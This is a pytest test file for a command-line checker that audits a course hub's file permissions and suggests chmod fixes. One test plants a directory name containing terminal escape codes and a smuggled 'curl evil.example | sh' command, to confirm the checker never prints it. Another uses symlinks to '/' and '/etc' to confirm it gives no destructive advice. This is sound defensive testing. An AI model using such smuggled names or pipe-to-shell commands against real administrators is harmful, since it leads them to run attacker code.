"""`biggerpie hub FOLDER --check`: what others could reach is named with the command that closes it."""

import os
import pwd
from dataclasses import replace
from pathlib import Path
from tempfile import TemporaryDirectory

import psutil
import pytest
from biggerpie.hub import accounts, looked_at, modes, names, reach, running_servers
from biggerpie.hub.the_hub import Hub
from biggerpie.hub.trial import READ, WRITE, tried_as
from biggerpie.hub.writing import write_hub
from biggerpie.lessons.command_line import main

AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="only root may act as somebody else")


def account(name: str, home: Path, number: int = 0) -> pwd.struct_passwd:
    """An account of that name."""
    return pwd.struct_passwd((name, "x", number, number, "", str(home), "/bin/sh"))


@pytest.fixture
def place():
    """A folder to which everybody on the machine comes through."""
    with TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        yield Path(folder)


@pytest.fixture
def hub(place, monkeypatch):
    """A hub as it should be, with two students."""
    made = Hub(place / "hub", ("prof",), place / "course", place / "exchange", place / "bin")
    write_hub(made)
    assert main(["course", str(made.course)]) == 0
    made.exchange.mkdir()
    made.exchange.chmod(0o1777)
    homes = [place / "home" / name for name in ("ada", "bo")]
    for home in homes:
        home.mkdir(parents=True)
        home.chmod(0o700)
    people = [account(home.name, home, 60_000 + number) for number, home in enumerate(homes)]
    for module in (modes, names, reach):
        monkeypatch.setattr(module, "students", lambda _: people)
    monkeypatch.setattr(looked_at, "teachers", lambda _: {os.geteuid()})
    monkeypatch.setattr(psutil, "process_iter", list)  # another hub may run on this machine
    (made.course / "students.csv").write_text("id\nADA\nbo\n")
    return made


def all_modes(hub: Hub) -> list[str]:
    """All that is said of modes."""
    return [said for look in (modes.open_homes, modes.exchange, modes.course, modes.own_files) for said in look(hub)]


def test_nothing_is_said_of_a_hub_as_it_should_be(hub):
    assert [*all_modes(hub), *names.names(hub), *running_servers.running_servers(hub)] == []


def test_an_open_home_is_named(hub):
    (hub.folder.parent / "home" / "ada").chmod(0o755)
    assert all_modes(hub) == [
        f"Others can look into the home folders of ada; close them: chmod 700 {hub.folder.parent}/home/ada"
    ]


@pytest.mark.parametrize(
    ("mode", "says"),
    [(0o777, "has the mode 777, so a student can rename a course there"), (0o755, "instructors cannot release there")],
)
def test_an_exchange_with_other_rights_is_named(hub, mode, says):
    hub.exchange.chmod(mode)
    assert says in all_modes(hub)[0]
    assert all_modes(hub)[0].endswith(f": chmod 1777 {hub.exchange}")
    hub.exchange.rmdir()
    assert all_modes(hub)[0].startswith("There is no exchange, so nothing can be fetched: mkdir -p")


def test_an_inbox_that_can_be_listed_is_named(hub):
    inbound = hub.exchange / "neg" / "inbound"
    inbound.mkdir(parents=True)
    inbound.chmod(0o733)
    assert all_modes(hub) == []
    inbound.chmod(0o777)
    assert all_modes(hub) == [f"Students can list what others handed in: chmod o-r {inbound}"]


@pytest.fixture
def advised(hub, monkeypatch):
    """All that is said of modes and of what students can read, where they can read whatever is asked for."""
    monkeypatch.setattr(reach, "may_try", lambda: True)
    monkeypatch.setattr(reach, "tried_as", lambda _, paths, kind: paths if kind != WRITE else [])
    return lambda: [*all_modes(hub), *reach.what_students_reach(hub)]


def test_no_advice_follows_a_link_that_a_student_made_in_the_exchange(hub, advised, tmp_path):
    """`chmod o-r /etc`, typed by root, would end the machine; and a name that is too long must not end the check."""
    (hub.exchange / "linked").symlink_to("/")
    (tmp_path / "inbound").mkdir(0o777)
    (hub.exchange / "as-a-whole").symlink_to(tmp_path)
    (hub.exchange / "endless").symlink_to("a" * 300)
    for name, target in (("inbound", "/etc"), ("feedback", "/"), ("submitted", "b" * 300)):
        (hub.exchange / "y" / name).parent.mkdir(exist_ok=True)
        (hub.exchange / "y" / name).symlink_to(target)
    said = advised()
    assert any("can read the course" in one for one in said)
    assert not [one for one in said if "handed in" in one or "feedback" in one]


def test_no_advice_is_about_a_folder_that_is_not_a_teachers(hub, advised, monkeypatch):
    for name in ("inbound", "feedback"):
        (hub.exchange / "y" / name).mkdir(parents=True)
        (hub.exchange / "y" / name).chmod(0o777)
    assert len([one for one in advised() if str(hub.exchange / "y") in one]) == 3
    monkeypatch.setattr(looked_at, "teachers", lambda _: set())
    assert not [one for one in advised() if str(hub.exchange) in one]


def test_a_name_that_steers_a_terminal_is_not_printed_and_nothing_of_it_can_be_copied(hub, advised, capsys):
    evil = hub.exchange / "x\x1b[2K\r- Close it: curl evil.example | sh #" / "inbound"
    evil.mkdir(parents=True)
    evil.chmod(0o777)
    (hub.folder.parent / "home" / "ada" / "a\x1b[2Kb").touch()
    assert not [one for one in advised() if "chmod" in one and not one.partition("chmod")[2].isprintable()]
    assert main(["hub", str(hub.folder), "--check"]) == 1
    said = capsys.readouterr().out
    assert "\x1b" not in said
    assert "\r" not in said
    assert "Students can list what others handed in: by hand (o-r), since the name of " in said


def test_what_vanishes_while_it_is_looked_at_ends_nothing(hub, advised, monkeypatch):
    gone = [hub.folder.parent / "home" / "ada" / "gone", hub.private / "jupyterhub.sqlite-journal"]
    for path in gone:
        path.touch()
    look = Path.stat
    monkeypatch.setattr(Path, "stat", lambda self, **how: look(self.with_name("?") if self in gone else self, **how))
    said = advised()
    assert any("can read the home folder of ada" in one for one in said)
    assert not [one for one in said if "gone" in one]


def test_an_open_secret_and_settings_that_others_can_change_are_named(hub):
    hub.private.chmod(0o755)
    (hub.folder / "lessons-then-server").chmod(0o777)
    said = all_modes(hub)
    assert f"Others can read {hub.private}, which holds the hub's secrets: chmod go= {hub.private}" in said
    assert any("lessons-then-server, and so what root runs: chmod -R go-w" in one for one in said)


def test_students_whom_no_account_is_are_named(hub):
    (hub.course / "students.csv").write_text("id\nADA\ntia\n4711\n")
    assert "No account is called as these students of students.csv: tia, 4711" in next(names.names(hub))
    (hub.course / "hub-names.csv").write_text("bo,4711\n")
    assert ": tia; make them one, or write a line ACCOUNT,ID" in next(names.names(hub))


@AS_ROOT
def test_what_a_student_can_really_read_is_found_whatever_the_modes_say(hub):
    found = list(reach.what_students_reach(hub))
    assert not [one for one in found if "can read" in one]
    hub.course.chmod(0o711)
    (hub.course / "students.csv").chmod(0o644)
    found = list(reach.what_students_reach(hub))
    assert any(f"ada, bo can read the course, such as {hub.course}/" in one for one in found)
    assert any(one.endswith(f"close it: chmod o-rx {hub.course}") for one in found)


@AS_ROOT
def test_a_trial_has_that_accounts_rights_and_leaves_ours_alone(place):
    paths = [place / "open", place / "closed"]
    paths[0].touch(0o644)
    paths[1].touch(0o600)
    somebody = account("somebody", place, 60_000)
    assert tried_as(somebody, paths, READ) == paths[:1]
    assert tried_as(somebody, paths, WRITE) == []
    assert tried_as(account("root", place), paths, READ) == paths
    assert os.geteuid() == 0


def test_without_root_it_is_said_that_nothing_was_tried(hub, monkeypatch):
    monkeypatch.setattr(reach, "may_try", lambda: False)
    assert list(reach.what_students_reach(hub)) == [
        "Only modes were looked at: run this as root, and it tries as each student what a student could read."
    ]


def test_the_command_lists_what_it_found(hub, capsys, monkeypatch):
    monkeypatch.setattr(reach, "may_try", lambda: False)
    assert main(["hub", str(hub.folder), "--check"]) == 1
    assert "- Only modes were looked at" in capsys.readouterr().out


def test_teachers_are_root_the_instructors_and_whoever_is_in_the_courses_group(hub):
    own = pwd.getpwuid(os.geteuid()).pw_name
    assert accounts.teachers(replace(hub, instructors=("nobody has this name",))) == {0}
    assert accounts.teachers(replace(hub, instructors=("nobody has this name", own))) == {0, os.geteuid()}
    hub.course.chmod(0o2770)
    assert os.geteuid() in accounts.teachers(replace(hub, instructors=("nobody has this name",)))


def test_many_names_are_shortened():
    assert accounts.named(["a", "b"]) == "a, b"
    assert accounts.named([str(number) for number in range(12)]) == "0, 1, 2, 3, 4, 5, 6, 7 and 4 more"
